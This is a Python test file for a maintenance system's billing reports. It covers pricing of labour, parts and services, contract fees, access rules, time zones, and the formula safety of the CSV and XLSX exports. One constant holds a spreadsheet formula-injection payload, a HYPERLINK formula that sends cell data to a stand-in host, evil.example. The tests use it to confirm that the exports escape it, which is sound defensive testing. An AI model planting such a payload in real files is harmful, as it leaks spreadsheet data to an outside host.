"""Billing lines on a small hand-computed data set, their export, and its formula safety."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
import time_machine

from assets.services import stock_receive, stock_return
from contracts.models import BillingRate, Contract
from reports.billing import Kind, billing_lines, billing_total
from tests.factories import (
    AssetFactory,
    CustomerFactory,
    PartFactory,
    PlannerFactory,
    ServiceLineFactory,
    SiteFactory,
    SkillFactory,
    StockFactory,
    StoreroomFactory,
    TechnicianFactory,
    WorkOrderFactory,
    move_to,
)
from workorders.choices import Status, WorkOrderType
from workorders.models import WorkOrder
from workorders.services import labour_add, work_order_issue_part

NOV = datetime(2026, 11, 1, tzinfo=UTC)
DEC = datetime(2026, 12, 1, tzinfo=UTC)
EVIL_VENDOR = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def at(day: int, month: int = 11) -> datetime:
    return datetime(2026, month, day, 12, tzinfo=UTC)


def under(contract, **fields):
    """A work order under the contract, in progress (found on creation: the contract covers
    its site)."""
    wo = move_to(WorkOrderFactory(**fields), Status.IN_PROGRESS)
    assert wo.contract == contract
    return wo


def outside_any_contract(**fields):
    """Work at a covered site that is under no contract (created before the contract was)."""
    wo = move_to(WorkOrderFactory(**fields), Status.IN_PROGRESS)
    WorkOrder.objects.filter(pk=wo.pk).update(contract=None)
    wo.contract = None
    return wo


class Bill:
    def __init__(self):
        self.acme = CustomerFactory(name="Acme", currency="EUR")
        self.s1 = SiteFactory(customer=self.acme, code="s1")
        self.s2 = SiteFactory(customer=self.acme, code="s2")
        self.tina = TechnicianFactory(username="tina", sites=[self.s1, self.s2])
        self.planner = PlannerFactory(sites=[self.s1])
        electrical = SkillFactory(code="electrical")
        self.contract = Contract.objects.create(
            customer=self.acme,
            reference="C-1",
            name="Full service",
            starts_on=date(2026, 1, 1),
            labour_rate=Decimal("60.00"),
            overtime_multiplier=Decimal("1.5"),
            parts_markup_percent=Decimal("10"),
            services_markup_percent=Decimal("20"),
            monthly_fee=Decimal("1000.00"),
            fee_covers_preventive=True,
        )
        self.contract.sites.set([self.s1, self.s2])
        BillingRate.objects.create(
            contract=self.contract, skill=electrical, hourly_rate=Decimal("80.00")
        )
        with time_machine.travel(at(2), tick=False):
            self.wo1 = under(self.contract, site=self.s1, asset=AssetFactory(site=self.s1))
            self.wo2 = under(
                self.contract,
                site=self.s1,
                asset=AssetFactory(site=self.s1),
                type=WorkOrderType.PREVENTIVE,
                required_skill=electrical,
            )
            self.wo3 = under(self.contract, site=self.s2, asset=AssetFactory(site=self.s2))
            self.outside = outside_any_contract(site=self.s1)
            stock = StockFactory(
                storeroom=StoreroomFactory(site=self.s1),
                part=PartFactory(sku="BRG-1", name="Bearing"),
                on_hand=Decimal("0"),
            )
            stock_receive(stock=stock, quantity=10, unit_cost=Decimal("2.00"))
        with time_machine.travel(at(10), tick=False):
            labour_add(work_order=self.wo1, technician=self.tina, hours=2)
            labour_add(work_order=self.wo1, technician=self.tina, hours=1, overtime=True)
            work_order_issue_part(work_order=self.wo1, stock=stock, quantity=3)
            stock_return(stock=stock, quantity=1, work_order=self.wo1)
            ServiceLineFactory(
                work_order=self.wo1, vendor=EVIL_VENDOR, description="-1+1", amount="100.00"
            )
            labour_add(work_order=self.wo2, technician=self.tina, hours="1.5")
            labour_add(work_order=self.wo3, technician=self.tina, hours=1)
            labour_add(work_order=self.outside, technician=self.tina, hours=5)
        with time_machine.travel(at(1, month=12), tick=False):
            labour_add(work_order=self.wo1, technician=self.tina, hours=7)  # December


@pytest.fixture
def bill(db):
    return Bill()


def amounts(lines):
    return [(x.work_order, x.kind, x.quantity, x.unit_price, x.amount) for x in lines]


def test_billing_lines_price_labour_parts_services_the_fee_and_what_it_covers(bill):
    lines = billing_lines(customer=bill.acme, start=NOV, end=DEC, sites=[bill.s1])
    one, two = bill.wo1.number, bill.wo2.number
    assert amounts(lines) == [
        ("", Kind.FEE, Decimal("1"), Decimal("1000.00"), Decimal("1000.00")),
        # 2 h x 60.00; 1 h overtime x 60.00 x 1.5 = 90.00
        (one, Kind.LABOUR, Decimal("2.00"), Decimal("60.00"), Decimal("120.00")),
        (one, Kind.OVERTIME, Decimal("1.00"), Decimal("90.00"), Decimal("90.00")),
        # 3 parts at 2.00 + 10 % = 2.20 each; 1 returned at the same price
        (one, Kind.PARTS, Decimal("3"), Decimal("2.2000"), Decimal("6.60")),
        (one, Kind.PARTS, Decimal("-1"), Decimal("2.2000"), Decimal("-2.20")),
        # 100.00 + 20 %
        (one, Kind.SERVICES, Decimal("1"), Decimal("120.00"), Decimal("120.00")),
        # preventive, electrical: 1.5 h x 80.00 = 120.00, then credited by the fee
        (two, Kind.LABOUR, Decimal("1.50"), Decimal("80.00"), Decimal("120.00")),
        (two, Kind.COVERED, Decimal("1"), Decimal("-120.00"), Decimal("-120.00")),
    ]
    # 1000 + 120 + 90 + 6.60 - 2.20 + 120 + 120 - 120
    assert billing_total(lines) == Decimal("1334.40")
    assert {x.currency for x in lines} == {"EUR"}
    assert all(x.date == date(2026, 11, 10) for x in lines[1:])


def test_every_site_of_the_customer_counts_when_no_sites_are_given(bill):
    lines = billing_lines(customer=bill.acme, start=NOV, end=DEC)
    assert bill.wo3.number in {x.work_order for x in lines}
    assert billing_total(lines) == Decimal("1394.40")  # + 1 h x 60.00 at s2


def test_a_month_before_the_contract_bills_nothing(bill):
    start, end = datetime(2025, 11, 1, tzinfo=UTC), datetime(2025, 12, 1, tzinfo=UTC)
    assert billing_lines(customer=bill.acme, start=start, end=end) == []


def test_the_csv_export_is_formula_safe_and_traceable(bill, client_for):
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": "2026-11", "format": "csv"}
    )
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    services = next(r for r in rows if r["kind"] == Kind.SERVICES)
    assert services["description"] == "'" + EVIL_VENDOR + ": -1+1"
    assert services["work_order"] == bill.wo1.number
    assert rows[-1]["amount"] == "1334.40"
    assert not any(r["site"] == "s2" for r in rows)  # the planner does not work at s2


def test_the_xlsx_export_is_formula_safe_with_typed_numbers(bill, client_for):
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": "2026-11", "format": "xlsx"}
    )
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    services = next(r for r in cells if r[4] == Kind.SERVICES)
    assert services[5].startswith("'=HYPERLINK")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert cells[-1][8] == pytest.approx(1334.40)


def test_the_page_offers_only_the_planners_customers(bill, client_for):
    stranger = CustomerFactory(name="Stranger")
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": stranger.pk, "month": "2026-11"}
    )
    assert answer.status_code == 200
    assert "Select a valid choice" in answer.content.decode()
    shown = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": "2026-11"}
    )
    assert "1334.40" in shown.content.decode()


def test_technicians_cannot_open_the_billing_export(bill, client_for):
    answer = client_for(bill.tina).get("/reports/billing/")
    assert answer.status_code == 302


def test_a_planner_never_gets_the_fee_of_a_contract_covering_only_another_site(bill, client_for):
    other = Contract.objects.create(
        customer=bill.acme,
        reference="C-S2-ONLY",
        name="s2 only",
        starts_on=date(2026, 1, 1),
        monthly_fee=Decimal("999.00"),
    )
    other.sites.set([bill.s2])
    lines = billing_lines(customer=bill.acme, start=NOV, end=DEC, sites=[bill.s1])
    assert "C-S2-ONLY" not in {x.contract for x in lines}
    assert billing_total(lines) == Decimal("1334.40")
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": "2026-11", "format": "csv"}
    )
    assert b"C-S2-ONLY" not in answer.content
    # Without a limit on sites (the whole customer) its fee is billed.
    everything = billing_lines(customer=bill.acme, start=NOV, end=DEC)
    assert ("C-S2-ONLY", Kind.FEE) in {(x.contract, x.kind) for x in everything}


@pytest.mark.parametrize(
    "change",
    [{"ends_on": date(2026, 10, 31)}, {"is_active": False}],
    ids=["ended", "deactivated"],
)
def test_work_under_an_ended_or_deactivated_contract_is_still_billed_without_the_fee(bill, change):
    Contract.objects.filter(pk=bill.contract.pk).update(**change)
    lines = billing_lines(customer=bill.acme, start=NOV, end=DEC, sites=[bill.s1])
    assert Kind.FEE not in {x.kind for x in lines}
    assert {x.work_order for x in lines} == {bill.wo1.number, bill.wo2.number}
    assert billing_total(lines) == Decimal("334.40")  # 1334.40 less the fee


def test_the_export_counts_the_month_in_the_sites_time_zone(bill, client_for):
    # 30 November 23:30 UTC is 1 December 00:30 in Berlin, the sites' zone.
    with time_machine.travel(datetime(2026, 11, 30, 23, 30, tzinfo=UTC), tick=False):
        labour_add(work_order=bill.wo1, technician=bill.tina, hours=4)

    def total(month):
        answer = client_for(bill.planner).get(
            "/reports/billing/", {"customer": bill.acme.pk, "month": month, "format": "csv"}
        )
        rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
        return rows[-1]["amount"], [r["date"] for r in rows if r["quantity"] == "4.00"]

    assert total("2026-11") == ("1334.40", [])
    # December: the fee, 7 h + the 4 h at 60.00
    assert total("2026-12") == ("1660.00", ["2026-12-01"])


@pytest.mark.parametrize("month", ["9999-12", "0001-01"])
def test_a_month_without_bounds_is_a_form_error_on_the_billing_page(bill, client_for, month):
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": month, "format": "csv"}
    )
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/html")
    assert "Pick a month of the years 2 to 9998." in answer.content.decode()


def test_the_export_counts_the_month_in_the_servers_zone_when_the_sites_are_in_several(
    bill, client_for, settings
):
    settings.TIME_ZONE = "UTC"
    chicago = SiteFactory(customer=bill.acme, code="chi", timezone="America/Chicago")
    bill.planner.sites.add(chicago)
    # 30 November 23:30 UTC: December in Berlin, still November in UTC (the server's zone).
    with time_machine.travel(datetime(2026, 11, 30, 23, 30, tzinfo=UTC), tick=False):
        labour_add(work_order=bill.wo1, technician=bill.tina, hours=4)
    answer = client_for(bill.planner).get(
        "/reports/billing/", {"customer": bill.acme.pk, "month": "2026-11", "format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[-1]["amount"] == "1574.40"  # 1334.40 + 4 h x 60.00
